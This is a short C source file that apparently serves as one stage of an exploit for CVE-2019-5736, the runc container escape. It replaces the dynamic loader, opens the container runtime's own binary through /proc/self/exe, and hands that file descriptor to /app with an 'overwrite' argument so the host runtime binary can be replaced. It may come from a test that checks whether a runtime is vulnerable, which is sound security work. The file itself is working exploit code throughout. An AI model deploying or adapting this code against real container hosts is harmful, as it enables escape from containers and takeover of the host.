/* A program in the place of the dynamic loader: what the runtime runs when a container's command is /proc/self/exe.
 * It keeps the runtime's own file open and leaves the process to /app, which tries to write to it (CVE-2019-5736). */
#include <sys/syscall.h>

#ifdef __x86_64__
asm(".globl _start\n_start: and $-16, %rsp\n call leave");

static long call(long number, long a, long b, long c) {
    long result;
    asm volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
#else
asm(".globl _start\n_start: bl leave");

static long call(long number, long a, long b, long c) {
    register long x8 asm("x8") = number, x0 asm("x0") = a, x1 asm("x1") = b, x2 asm("x2") = c, x3 asm("x3") = 0;
    asm volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
#endif

void leave(void) {
    char fd[2] = {'0', 0}, app[] = "/app", what[] = "overwrite", self[] = "/proc/self/exe";
    char *argv[] = {app, what, fd, 0}, *env[] = {0};
    long opened = call(SYS_openat, -100, (long)self, 0);
    fd[0] += opened < 0 ? 9 : opened;
    call(SYS_execve, (long)app, (long)argv, (long)env);
    call(SYS_exit, 99, 0, 0);
}
